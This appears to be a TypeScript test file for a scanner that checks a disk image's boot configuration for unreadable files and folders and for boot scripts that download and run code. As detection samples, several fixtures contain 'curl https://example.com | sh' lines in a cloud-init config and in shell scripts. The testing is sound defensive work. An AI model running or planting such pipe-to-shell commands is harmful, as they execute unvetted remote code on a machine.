import { describe, expect, it } from 'vitest';
import type { FileTree, TreeFailure } from '../../src/image/file-tree.ts';
import { recogniseBootGenerated } from '../../src/platforms/recognise.ts';
import { type MemoryFile, memoryTree } from '../support/memory-tree.ts';

type Files = Record<string, MemoryFile>;

const HIDDEN: MemoryFile = { unreadable: 'permission denied' };
const UNIT: Files = { '/etc/systemd/system/a.service': '[Service]\nExecStart=/opt/a.sh\n' };

/** The same tree, of which some folders cannot be listed. */
function withoutLists(tree: FileTree, folders: readonly string[]): FileTree {
  const failure = (path: string): TreeFailure => ({
    ok: false,
    reason: 'unreadable',
    path,
    detail: 'permission denied',
  });
  return { ...tree, list: async (path) => (folders.includes(path) ? failure(path) : tree.list(path)) };
}

async function doubts(files: Files, unlisted: readonly string[] = []): Promise<readonly string[]> {
  const found = await recogniseBootGenerated(withoutLists(memoryTree(files), unlisted));
  return found.doubts.map(
    ({ kind, location, detail }) => `${kind} ${location?.path}:${location?.startLine} ${detail.path}`,
  );
}

describe('a file that is there and cannot be read', () => {
  it.each([
    '/etc/crontab',
    '/etc/cron.d/x',
    '/var/spool/cron/crontabs/root',
    '/etc/udev/rules.d/9.rules',
    '/etc/network/interfaces',
    '/etc/network/interfaces.d/x',
    '/etc/dhcp/dhclient-exit-hooks.d/x',
    '/etc/rc3.d/S01x',
  ])('%s', async (path) => {
    expect(await doubts({ [path]: HIDDEN })).toEqual([`boot-script-unread ${path}:1 ${path}`]);
  });

  it.each(['/etc/cloud/cloud.cfg', '/etc/cloud/cloud.cfg.d/9.cfg', '/var/lib/cloud/seed/nocloud/user-data'])(
    '%s, where cloud-init is',
    async (path) => {
      const files = { [path]: HIDDEN, '/usr/bin/cloud-init': '' };
      expect(await doubts(files)).toEqual([`boot-script-unread ${path}:1 ${path}`]);
      expect(await doubts({ [path]: HIDDEN })).toEqual([]);
    },
  );

  it('cloud-init is off only where that is seen', async () => {
    const files = { '/usr/bin/cloud-init': '', '/etc/cloud/cloud.cfg': 'runcmd:\n - curl https://example.com | sh\n' };
    const off = '/etc/cloud/cloud-init.disabled';
    expect(await doubts({ ...files, [off]: '' })).toEqual([]);
    const tree = memoryTree(files);
    const hidden: TreeFailure = { ok: false, reason: 'unreadable', path: off, detail: 'permission denied' };
    const found = await recogniseBootGenerated({
      ...tree,
      stat: async (path) => (path === off ? hidden : tree.stat(path)),
    });
    expect(found.doubts.map(({ kind }) => kind)).toEqual(['boot-runs-download']);
  });

  it('a large crontab', async () => {
    const text = `# ${'x'.repeat(2 << 20)}\n`;
    expect(await doubts({ '/etc/crontab': text })).toEqual(['boot-script-unread /etc/crontab:1 /etc/crontab']);
  });
});

describe('a folder that is there and cannot be listed', () => {
  it.each([
    '/etc/cron.d',
    '/etc/udev/rules.d',
    '/etc/cron.daily',
    '/etc/systemd/system-generators',
    '/etc/rc3.d',
    '/etc/systemd/system',
    '/usr/local/bin',
  ])('%s', async (folder) => {
    const files = { [folder]: { directory: true } } as const;
    expect(await doubts(files, [folder])).toEqual([`boot-folder-unread ${folder}:1 ${folder}`]);
    expect(await doubts(files)).toEqual([]);
  });

  it('the links of a target', async () => {
    const folder = '/etc/systemd/system/multi-user.target.wants';
    expect(await doubts({ [folder]: { directory: true } }, [folder])).toEqual([
      `boot-folder-unread ${folder}:1 ${folder}`,
    ]);
  });

  it('of scripts that another one starts', async () => {
    const files = { ...UNIT, '/opt/a.sh': '#!/bin/sh\ntrue\nrun-parts /opt/parts\n', '/opt/parts/x': '' };
    expect(await doubts(files, ['/opt/parts'])).toEqual(['boot-script-unread /opt/a.sh:3 /opt/parts']);
  });
});

describe('what a pattern stands for', () => {
  const starts = (line: string): Files => ({ ...UNIT, '/opt/a.sh': `#!/bin/sh\n${line}\n` });
  const fetches = '#!/bin/sh\ncurl https://example.com/a | sh\n';

  it('a folder in the middle of a path', async () => {
    const files = {
      ...starts('sh /opt/parts/*/setup.sh'),
      '/opt/parts/b/setup.sh': fetches,
      '/opt/parts/b/other': fetches,
    };
    expect(await doubts(files)).toEqual([expect.stringMatching(/^boot-runs-download \/opt\/parts\/b\/setup.sh:2/)]);
  });

  it('more scripts than are looked at', async () => {
    const many = Object.fromEntries(Array.from({ length: 250 }, (_, at) => [`/opt/parts/${at}`, '#!/bin/sh\ntrue\n']));
    expect(await doubts({ ...starts('run-parts /opt/parts'), ...many })).toEqual([
      expect.stringMatching(/^boot-too-much \/opt\/a.sh:2/),
    ]);
  });
});
